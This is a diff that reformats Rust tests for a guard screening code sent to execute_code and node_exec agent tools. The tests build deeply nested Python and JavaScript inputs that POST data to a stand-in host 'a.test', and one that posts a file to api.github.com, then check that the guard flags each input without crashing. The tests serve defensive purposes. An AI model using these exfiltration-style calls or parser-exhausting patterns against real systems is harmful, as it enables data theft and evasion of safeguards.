@@ -484,7 +484,12 @@ fn inline_code_in_shell_commands_uses_the_parsers() {
 
 /// The component runs the engine on a 1 MiB stack; the hostile inputs run natively on the same.
 fn on_component_sized_stack(f: impl FnOnce() + Send + 'static) {
-    std::thread::Builder::new().stack_size(1 << 20).spawn(f).unwrap().join().expect("no overflow, no panic");
+    std::thread::Builder::new()
+        .stack_size(1 << 20)
+        .spawn(f)
+        .unwrap()
+        .join()
+        .expect("no overflow, no panic");
 }
 
 #[test]
@@ -493,7 +498,11 @@ fn hostile_code_never_panics_and_never_passes_silently() {
         let g = Guard::new(POLICY, "test", None);
         let post = "requests.post('https://a.test/', data=x)";
         let deep = [
-            format!("import requests\nx = {}1{}\n{post}", "(".repeat(5000), ")".repeat(5000)),
+            format!(
+                "import requests\nx = {}1{}\n{post}",
+                "(".repeat(5000),
+                ")".repeat(5000)
+            ),
             format!("import requests\nx = {}1\n{post}", "-".repeat(20000)),
             format!("import requests\nx = {}\n{post}", "lambda: ".repeat(3000)),
             format!("import requests\nx = a{}\n{post}", "+a".repeat(50000)),
@@ -502,13 +511,23 @@ fn hostile_code_never_panics_and_never_passes_silently() {
             format!("import requests\nx = a{}\n{post}", "[0]".repeat(50000)),
             format!("import requests\nx = 'a'{}\n{post}", " 'a'".repeat(50000)),
             format!("import requests\nx = (a{}\n)\n{post}", "\n+a".repeat(50000)),
-            format!("import requests\n{}requests.post('https://a.test/', data='x')", (0..300).map(|i| format!("{}if x:\n", " ".repeat(i))).collect::<String>()),
+            format!(
+                "import requests\n{}requests.post('https://a.test/', data='x')",
+                (0..300)
+                    .map(|i| format!("{}if x:\n", " ".repeat(i)))
+                    .collect::<String>()
+            ),
         ];
         for code in &deep {
             let v = g.inspect_args("execute_code", &json!({ "code": code }).to_string());
-            assert!(v.is_some_and(|v| !v.findings.is_empty()), "passed silently: {}", &code[..60]);
+            assert!(
+                v.is_some_and(|v| !v.findings.is_empty()),
+                "passed silently: {}",
+                &code[..60]
+            );
         }
-        let fetch = |body: String| format!("fetch('https://a.test/', {{method: 'POST', body: {body}}})");
+        let fetch =
+            |body: String| format!("fetch('https://a.test/', {{method: 'POST', body: {body}}})");
         let js_deep = [
             fetch(format!("{}1{}", "(".repeat(20000), ")".repeat(20000))),
             fetch(format!("{}1", "!".repeat(20000))),
@@ -519,11 +538,19 @@ fn hostile_code_never_panics_and_never_passes_silently() {
             fetch(format!("a{}", "[0]".repeat(50000))),
             fetch(format!("a{}", "+a".repeat(50000))),
             fetch(format!("{}1{}", "[".repeat(20000), "]".repeat(20000))),
-            fetch(format!("`${{{}1{}}}`", "`${".repeat(3000), "}`".repeat(3000))),
+            fetch(format!(
+                "`${{{}1{}}}`",
+                "`${".repeat(3000),
+                "}`".repeat(3000)
+            )),
         ];
         for code in &js_deep {
             let v = g.inspect_args("node_exec", &json!({ "code": code }).to_string());
-            assert!(v.is_some_and(|v| !v.findings.is_empty()), "passed silently: {}", &code[..60]);
+            assert!(
+                v.is_some_and(|v| !v.findings.is_empty()),
+                "passed silently: {}",
+                &code[..60]
+            );
         }
         // Just under the bounds the parsers do run: no overflow on the component's stack.
         let under_py = [
@@ -532,11 +559,19 @@ fn hostile_code_never_panics_and_never_passes_silently() {
             format!("import requests\nx = a{}\n{post}", "()".repeat(190)),
             format!("import requests\nx = {}1\n{post}", "not ".repeat(390)),
             format!("import requests\nx = {}1\n{post}", "-".repeat(390)),
-            format!("import requests\nx = {}1{}\n{post}", "(".repeat(95), ")".repeat(95)),
+            format!(
+                "import requests\nx = {}1{}\n{post}",
+                "(".repeat(95),
+                ")".repeat(95)
+            ),
         ];
         for code in &under_py {
             let v = g.inspect_args("execute_code", &json!({ "code": code }).to_string());
-            assert!(v.is_some_and(|v| !v.findings.is_empty()), "passed silently: {}", &code[..60]);
+            assert!(
+                v.is_some_and(|v| !v.findings.is_empty()),
+                "passed silently: {}",
+                &code[..60]
+            );
         }
         let under_js = [
             fetch(format!("{}1{}", "(".repeat(290), ")".repeat(290))),
@@ -553,7 +588,11 @@ fn hostile_code_never_panics_and_never_passes_silently() {
         ];
         for code in &under_js {
             let v = g.inspect_args("node_exec", &json!({ "code": code }).to_string());
-            assert!(v.is_some_and(|v| !v.findings.is_empty()), "passed silently: {}", &code[..60]);
+            assert!(
+                v.is_some_and(|v| !v.findings.is_empty()),
+                "passed silently: {}",
+                &code[..60]
+            );
         }
         // Code that runs code that runs code… stops following and fails closed.
         let mut nested = "print(1)".to_string();
@@ -570,7 +609,8 @@ fn ten_kilobytes_of_ordinary_code_is_parsed_not_left_to_the_fallback() {
     let g = Guard::new(POLICY, "test", None);
     // A URL that is only a string: the fallback would count it as a destination.
     let mut py = String::from("import json, requests\nDOCS = 'see https://a.test/docs'\n");
-    let mut js = String::from("const fs = require('fs');\nconst DOCS = 'see https://a.test/docs';\n");
+    let mut js =
+        String::from("const fs = require('fs');\nconst DOCS = 'see https://a.test/docs';\n");
     for i in 0.. {
         if py.len() > 10 * 1024 {
             break;
@@ -579,7 +619,15 @@ fn ten_kilobytes_of_ordinary_code_is_parsed_not_left_to_the_fallback() {
         js.push_str(&format!("function f{i}(p) {{\n  const d = JSON.parse(fs.readFileSync(p, 'utf8'));\n  return d.filter(x => x && x.v > {i}).map(x => (x.k || {i}) + 1);\n}}\n"));
     }
     py.push_str("requests.post('https://api.github.com/x', data=open('f').read())\n");
-    js.push_str("fetch('https://api.github.com/x', {method: 'POST', body: fs.readFileSync('f')});\n");
-    assert!(hosts(&g, "execute_code", &py).is_empty(), "the fallback would report a.test");
-    assert!(hosts(&g, "node_exec", &js).is_empty(), "the fallback would report a.test");
+    js.push_str(
+        "fetch('https://api.github.com/x', {method: 'POST', body: fs.readFileSync('f')});\n",
+    );
+    assert!(
+        hosts(&g, "execute_code", &py).is_empty(),
+        "the fallback would report a.test"
+    );
+    assert!(
+        hosts(&g, "node_exec", &js).is_empty(),
+        "the fallback would report a.test"
+    );
 }
